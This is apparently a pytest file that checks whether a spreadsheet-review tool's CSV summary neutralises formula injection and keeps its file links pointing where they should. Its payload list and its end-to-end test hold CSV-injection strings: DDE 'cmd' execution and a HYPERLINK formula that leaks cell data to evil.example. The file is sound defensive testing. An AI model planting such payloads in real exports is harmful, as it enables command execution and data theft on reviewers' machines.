"""The reviewer's CSV carries no live formula (OWASP "CSV injection"): every field a spreadsheet
would run (starting with = + - @, a tab or a carriage return) arrives as text with a leading ',
while numbers stay numbers."""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import openpyxl
import pytest

from xladdin.cli import main
from xladdin.commands.review import FileResult
from xladdin.commands.summary import FINDING_COLUMNS, csv_safe, write_summary

#: The payloads of issue 25, as a hostile submission would carry them.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "-",
    "@",
]


def _rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def _live(field: str) -> bool:
    return field.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_is_neutralised_in_every_column(payload, tmp_path):
    finding = {
        "rule": "F101",
        "severity": "error",
        "sheet": payload,
        "cell": payload,
        "message": payload,
        "fix": payload,
    }
    result = FileResult(str(tmp_path / f"{payload[:1]}x.xlsx"), department=payload, findings=[finding])
    result.label = payload
    out = write_summary([result], tmp_path / "s.csv")
    header, *rows = _rows(out)
    assert header == FINDING_COLUMNS
    assert len(rows) == 1
    row = dict(zip(header, rows[0], strict=True))
    for column in ("文件", "部门", "工作表", "单元格", "问题", "改法"):
        assert row[column] == "'" + payload  # neutralised, and the text otherwise unchanged
    assert not any(_live(f) for f in rows[0])


@pytest.mark.parametrize("number", ["-12.5", "+3", "-0.25", "1e5", "-7", "42"])
def test_numbers_stay_numbers(number):
    assert csv_safe(number) == number
    assert csv_safe(-12.5) == -12.5 and csv_safe(3) == 3


@pytest.mark.parametrize("text", ["-1+1", "+A1", "-5 万元", "=5", "@5"])
def test_near_numbers_are_not_numbers(text):
    assert csv_safe(text) == "'" + text


def test_plain_text_is_untouched():
    for text in ("株洲市石峰区退役军人事务局", " =1+1", "a=b", "", "附表1"):
        assert csv_safe(text) == text


def test_a_submission_named_as_a_formula_end_to_end(example_file, tmp_path):
    """部门名称, the file's name and a sheet's name all carry a payload: the CSV of the reviewer's
    folder run holds none of them live."""
    folder = tmp_path / "报送"
    folder.mkdir()
    book = folder / "=HYPERLINK(1).xlsx"
    shutil.copy(example_file, book)
    wb = openpyxl.load_workbook(book)
    wb["附表1"]["B4"].value = "=cmd|' /C calc'!A0"
    wb["附表1"]["B4"].data_type = "s"
    wb["附表2"].title = "-附表2"
    wb.save(book)
    out = tmp_path / "问题.csv"
    main(["validate", str(folder), "--summary", str(out), "--json"])
    rows = _rows(out)[1:]
    assert rows
    fields = [f for row in rows for f in row]
    assert not any(_live(f) for f in fields)
    assert "'=cmd|' /C calc'!A0" in fields
    assert "'=HYPERLINK(1).xlsx" in fields


def test_links_open_the_file_named(example_file, tmp_path):
    """「#」 and 「%41」 in a file name do not make the summary's link open another path; a
    symbolic link inside the folder is linked where it stands, not where it points."""
    import os

    from xladdin.commands.summary import _link

    folder = tmp_path / "in"
    folder.mkdir()
    base = tmp_path / "out"
    base.mkdir()
    assert _link(folder / "a#b%41.xlsx", base) == "../in/a%23b%2541.xlsx"
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    shutil.copy(example_file, outside / "real.xlsx")
    os.symlink(outside / "real.xlsx", folder / "linked.xlsx")
    assert _link(folder / "linked.xlsx", base) == "../in/linked.xlsx"
    summary = base / "汇总.xlsx"
    shutil.copy(example_file, folder / "a#b%41.xlsx")
    assert main(["validate", str(folder), "--summary", str(summary), "--json"]) == 1
    ws = openpyxl.load_workbook(summary)["汇总"]
    targets = {ws.cell(r, 1).value: ws.cell(r, 1).hyperlink.target for r in range(2, ws.max_row + 1)}
    assert targets == {"a#b%41.xlsx": "../in/a%23b%2541.xlsx", "linked.xlsx": "../in/linked.xlsx"}
